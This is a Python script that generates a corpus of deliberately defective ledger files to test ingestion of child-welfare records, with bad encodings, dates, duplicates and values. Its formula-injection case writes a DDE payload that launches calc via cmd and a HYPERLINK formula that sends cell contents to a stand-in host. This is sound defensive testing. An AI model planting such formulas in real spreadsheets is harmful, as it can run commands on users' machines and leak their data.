"""Build the bad-input corpus: small ledger files, each with one kind of defect.

Run ``.venv/bin/python -m tests.data.bad_inputs.make_corpus`` to (re)write the corpus beside
this script; ``tests/unit/features/test_ingest_bad_inputs.py`` checks that the committed files
are exactly what this script writes, and what ingestion does with each.

Layout: ``base/`` holds a valid areas ledger (villages 0-4) and child registry (children 0-4),
loaded before every case; ``cases/<kind>/`` holds the file(s) of one kind of bad input, named
as counties name them (``<table>_2025-03.<ext>``). The load date of the tests is 2025-04-01.
"""

from __future__ import annotations

import shutil
import sys
from collections.abc import Callable
from pathlib import Path

from features.schema import AREAS, ATTENDANCE, CHILDREN, SCREENINGS, VISITS, TableSpec
from tests.factories import (
    id_number,
    ledger_csv,
    ledger_row,
    village_code,
    village_row,
    write_ledger,
    write_xlsx,
)

HERE = Path(__file__).parent
MONTH = "2025-03"


def _name(spec: TableSpec, ext: str = "csv") -> str:
    return f"{spec.zh}_{MONTH}.{ext}"


def _visits(*bad: dict[str, str | None]) -> list[dict[str, str | None]]:
    """Two good visits (children 0 and 1), then one visit per override set (visits 2, 3, ...
    of registered children 2, 3, 4, 0, ...)."""
    rows = [ledger_row(VISITS, 0), ledger_row(VISITS, 1)]
    rows += [
        ledger_row(VISITS, 2 + i, **{"id_number": id_number((2 + i) % 5), **over})
        for i, over in enumerate(bad)
    ]
    return rows


def _attendance(*bad: dict[str, str | None]) -> list[dict[str, str | None]]:
    rows = [ledger_row(ATTENDANCE, 0), ledger_row(ATTENDANCE, 1)]
    rows += [ledger_row(ATTENDANCE, 2 + i, **over) for i, over in enumerate(bad)]
    return rows


def _children(*bad: dict[str, str | None]) -> list[dict[str, str | None]]:
    """One good new child (10), then new children 11, 12, ... with the overrides."""
    rows = [ledger_row(CHILDREN, 10, village_code=village_code(0))]
    rows += [
        ledger_row(CHILDREN, 11 + i, **{"village_code": village_code(1), **over})
        for i, over in enumerate(bad)
    ]
    return rows


def _csv_text(spec: TableSpec, rows: list[dict[str, str | None]]) -> str:
    return ledger_csv(spec, rows, encoding="utf-8").decode("utf-8")


def base(out: Path) -> None:
    """The valid ledgers every case starts from."""
    write_ledger(out / _name(AREAS), AREAS, [village_row(i) for i in range(5)])
    write_ledger(out / _name(CHILDREN), CHILDREN, [ledger_row(CHILDREN, i) for i in range(5)])


def _write(path: Path, data: bytes) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)


def _latin1(d: Path) -> None:
    # English headers, a name with é in Latin-1: neither UTF-8 nor GB18030 (é then a comma)
    row = ledger_row(CHILDREN, 11, name="José", village_code=village_code(1))
    for col in CHILDREN.columns:  # English spellings throughout, as a Latin-1 file would have
        if col.dtype == "category":
            row[col.name] = col.codes[0].code
        elif col.dtype == "bool":
            row[col.name] = "no"
    text = ledger_csv(CHILDREN, [row], encoding="utf-8", headers="en").decode("utf-8")
    _write(d / "children_2025-03.csv", text.encode("latin-1"))


def _big5(d: Path) -> None:
    headers = "身份證號,姓名,性別,出生日期,民族,戶籍狀況\r\n"
    row = f"{id_number(11)},王小明,男,2015-06-01,漢族,農業戶口\r\n"
    _write(d / "children_2025-03.csv", (headers + row).encode("big5"))


def _mixed(d: Path) -> None:
    lines = _csv_text(CHILDREN, _children({})).splitlines(keepends=True)
    _write(d / _name(CHILDREN), lines[0].encode() + lines[1].encode() + lines[2].encode("gb18030"))


def _missing_column(d: Path) -> None:
    text = _csv_text(CHILDREN, _children())
    cells = [line.split(",") for line in text.splitlines()]
    drop = cells[0].index("出生日期")
    kept = [",".join(c for i, c in enumerate(line) if i != drop) for line in cells]
    _write(d / _name(CHILDREN), ("\r\n".join(kept) + "\r\n").encode("gb18030"))


def _truncated(d: Path) -> None:
    data = ledger_csv(VISITS, _visits({}), encoding="gb18030")
    cut = data.rstrip(b"\r\n")
    _write(d / _name(VISITS), cut[: cut.rfind(b",", 0, cut.rfind(b"\n") + 60)])


def _unterminated(d: Path) -> None:
    data = ledger_csv(VISITS, _visits({}), encoding="gb18030").rstrip(b"\r\n")
    head, _, last = data.rpartition(b"\n")
    fields = last.split(b",")
    fields[12] = b'"' + "学习辅导, 心理".encode("gb18030")
    _write(d / _name(VISITS), head + b"\n" + b",".join(fields[:13]))


def _corrupt_xlsx(d: Path) -> None:
    write_ledger(d / "whole.xlsx", VISITS, _visits())
    data = (d / "whole.xlsx").read_bytes()
    (d / "whole.xlsx").unlink()
    _write(d / _name(VISITS, "xlsx"), data[: len(data) // 2])


def _formulas(d: Path) -> None:
    spec = VISITS
    rows = _visits(
        {"needs": '=HYPERLINK("http://example.invalid/?x="&A2,"详情")'},
        {"actions": "=cmd|' /C calc'!A0"},
        {"needs": "+SUM(A1:A9)"},
        {"actions": "-2+3"},
        {"needs": "@SUM(A1)"},
    )
    cells = [[c.zh for c in spec.columns]]
    cells += [[row.get(c.name) for c in spec.columns] for row in rows]
    write_xlsx(d / _name(spec, "xlsx"), cells)


def _utf16(d: Path) -> None:
    _write(d / _name(CHILDREN), _csv_text(CHILDREN, _children()).encode("utf-16"))


def _same_file_twice(d: Path) -> None:
    write_ledger(d / _name(VISITS), VISITS, _visits())


#: kind -> writer of the case folder
CASES: dict[str, Callable[[Path], None]] = {
    "latin1_encoding": _latin1,
    "big5_encoding": _big5,
    "mixed_encoding": _mixed,
    "utf16_nul_bytes": _utf16,
    "missing_required_column": _missing_column,
    "unknown_headers_only": lambda d: _write(d / "ledger_2025-03.csv", b"foo,bar\r\n1,2\r\n"),
    "truncated_csv": _truncated,
    "unterminated_quote": _unterminated,
    "corrupt_xlsx": _corrupt_xlsx,
    "empty_file": lambda d: _write(d / _name(VISITS), b""),
    "old_xls_format": lambda d: _write(d / _name(VISITS, "xls"), b"\xd0\xcf\x11\xe0" + b"\0" * 60),
    "header_only": lambda d: write_ledger(d / _name(VISITS), VISITS, []),
    "unknown_village": lambda d: write_ledger(
        d / _name(CHILDREN), CHILDREN, _children({"village_code": "500101999999"})
    ),
    "unknown_child": lambda d: write_ledger(
        d / _name(VISITS), VISITS, _visits({"id_number": id_number(99)})
    ),
    "future_dates": lambda d: write_ledger(
        d / _name(VISITS),
        VISITS,
        _visits({"visit_date": "2026-01-05", "recorded_at": "2026-01-06"}),
    ),
    "recorded_before_event": lambda d: write_ledger(
        d / _name(VISITS), VISITS, _visits({"visit_date": "2025-03-20"})
    ),
    "impossible_date": lambda d: write_ledger(
        d / _name(VISITS), VISITS, _visits({"visit_date": "2025-02-30"})
    ),
    "excel_serial_in_csv": lambda d: write_ledger(
        d / _name(VISITS), VISITS, _visits({"visit_date": "45719"})
    ),
    "date_too_early": lambda d: write_ledger(
        d / _name(AREAS), AREAS, [village_row(7), village_row(8, effective_date="1980-01-01")]
    ),
    "duplicates_within_file": lambda d: write_ledger(
        d / _name(VISITS), VISITS, [*_visits(), ledger_row(VISITS, 1)]
    ),
    "duplicate_of_loaded_row": lambda d: write_ledger(
        d / _name(CHILDREN), CHILDREN, [ledger_row(CHILDREN, 0), *_children()]
    ),
    "key_conflict_within_file": lambda d: write_ledger(
        d / _name(VISITS), VISITS, [*_visits(), ledger_row(VISITS, 1, child_seen="是")]
    ),
    "key_conflict_with_store": lambda d: write_ledger(
        d / _name(CHILDREN), CHILDREN, [*_children(), ledger_row(CHILDREN, 1, sex="女")]
    ),
    "text_in_numeric": lambda d: write_ledger(
        d / _name(ATTENDANCE), ATTENDANCE, _attendance({"school_days": "五"})
    ),
    "not_a_whole_number": lambda d: write_ledger(
        d / _name(ATTENDANCE), ATTENDANCE, _attendance({"school_days": "4.5"})
    ),
    "negative_number": lambda d: write_ledger(
        d / _name(ATTENDANCE), ATTENDANCE, _attendance({"excused_days": "-1"})
    ),
    "out_of_range_number": lambda d: write_ledger(
        d / _name(SCREENINGS),
        SCREENINGS,
        [ledger_row(SCREENINGS, 0), ledger_row(SCREENINGS, 1, depression_score="99")],
    ),
    "absences_exceed_school_days": lambda d: write_ledger(
        d / _name(ATTENDANCE),
        ATTENDANCE,
        _attendance({"school_days": "5", "excused_days": "3", "unexcused_days": "3"}),
    ),
    "unknown_label": lambda d: write_ledger(
        d / _name(CHILDREN), CHILDREN, _children({"sex": "未知"})
    ),
    "not_a_boolean": lambda d: write_ledger(
        d / _name(VISITS), VISITS, _visits({"child_seen": "也许"})
    ),
    "missing_required_value": lambda d: write_ledger(
        d / _name(CHILDREN), CHILDREN, _children({"sex": ""})
    ),
    "birth_date_in_future": lambda d: write_ledger(
        d / _name(CHILDREN), CHILDREN, _children({"birth_date": "2026-05-01"})
    ),
    "age_out_of_range": lambda d: write_ledger(
        d / _name(CHILDREN), CHILDREN, _children({"birth_date": "2000-01-01"})
    ),
    "event_before_birth": lambda d: write_ledger(
        d / _name(VISITS),
        VISITS,
        _visits(
            {"id_number": id_number(0), "visit_date": "2015-01-01", "recorded_at": "2015-01-02"}
        ),
    ),
    "malformed_id_number": lambda d: write_ledger(
        d / _name(VISITS),
        VISITS,
        _visits({"id_number": "12345"}, {"id_number": id_number(3)[:-1] + "0"}),
    ),
    "formula_injection_xlsx": _formulas,
    "same_file_twice": _same_file_twice,
}


def build(out: Path) -> Path:
    """Write the base ledgers and every case under ``out`` (replacing what was there)."""
    for sub in ("base", "cases"):
        shutil.rmtree(out / sub, ignore_errors=True)
    base(out / "base")
    for kind, writer in CASES.items():
        folder = out / "cases" / kind
        folder.mkdir(parents=True, exist_ok=True)
        writer(folder)
    return out


if __name__ == "__main__":
    build(Path(sys.argv[1]) if len(sys.argv) > 1 else HERE)
